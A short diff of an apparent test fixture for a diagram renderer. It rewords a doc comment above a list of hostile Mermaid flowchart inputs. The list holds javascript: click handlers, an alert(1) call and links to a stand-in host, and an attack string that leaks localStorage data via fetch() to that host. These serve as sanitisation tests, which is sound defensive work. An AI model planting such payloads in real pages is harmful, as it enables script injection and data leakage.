@@ -33,7 +33,7 @@ export const diagrams = {
 
 const attack = "parent.hacked?.push(1);hacked.push(1);fetch('https://tracker.example/'+localStorage.length)";
 
-/** What somebody writes who would like to run something, ask somebody or read something. */
+/** Diagrams that try to run code, send requests or read data. */
 export const hostile = [
   `flowchart LR\n  A["a"] --> B["b"]\n  click A "javascript:${attack}"\n  click B call alert(1) "tip"`,
   'flowchart LR\n  A["a"] --> B["b"]\n  click A "https://tracker.example/x" _top\n  click B href "https://tracker.example/y" _self',
